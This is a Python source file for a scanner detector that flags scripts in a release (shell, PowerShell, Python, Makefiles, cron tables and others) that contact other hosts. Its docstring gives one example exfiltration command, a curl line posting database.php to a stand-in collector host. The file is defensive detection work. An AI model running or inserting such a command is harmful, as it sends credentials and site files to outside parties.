"""# script-network-command.

## What it does
Lists the hosts that scripts of the release contact when somebody runs them: shell, batch, PowerShell, Python, Perl,
Ruby and VBScript files, Makefiles, Dockerfiles, cron tables and pipelines.

## Why is this bad
An administrator runs such a script with more rights than the web server has.

## Example
```sh
curl -d @database.php https://collector.example.net/
```

## References
- CWE-506, CWE-829
"""

from __future__ import annotations

from collections.abc import Iterable

from scanner.analysis.destinations import UNRESOLVED
from scanner.detectors.base import Detector, Scene, rule
from scanner.detectors.remarks import SCRIPT, destination, finding_of, first_of_each, is_named, is_sample, places
from scanner.detectors.targets import known_host
from scanner.detectors.temper import SAMPLE
from scanner.model.finding import Category, Confidence, Finding, Severity

RULE = rule("script-network-command", Category.EGRESS, "Script that contacts another host", __doc__)


def _find(scene: Scene) -> Iterable[Finding]:
    return first_of_each(_all(scene))


def _all(scene: Scene) -> Iterable[Finding]:
    for place in places(scene, "command"):
        remark = place.remark
        target = destination(scene, remark)
        named = is_named(target.name)
        if not named and target.name != UNRESOLVED:
            continue
        sample = is_sample(place.path)
        quiet = sample or not named or known_host(scene, target.name)
        where = target.name if named else f"an address that could not be resolved: {target.shown[:100]}"
        yield finding_of(
            RULE,
            place,
            severity=Severity.LOW if quiet and named else Severity.INFO if quiet else Severity.MEDIUM,
            confidence=Confidence.LIKELY,
            destinations=[target.name],
            details=[SCRIPT, *([SAMPLE] if sample else [])],
            message=f"{remark.api} contacts {where}",
        )


DETECTOR = Detector(RULE, _find)
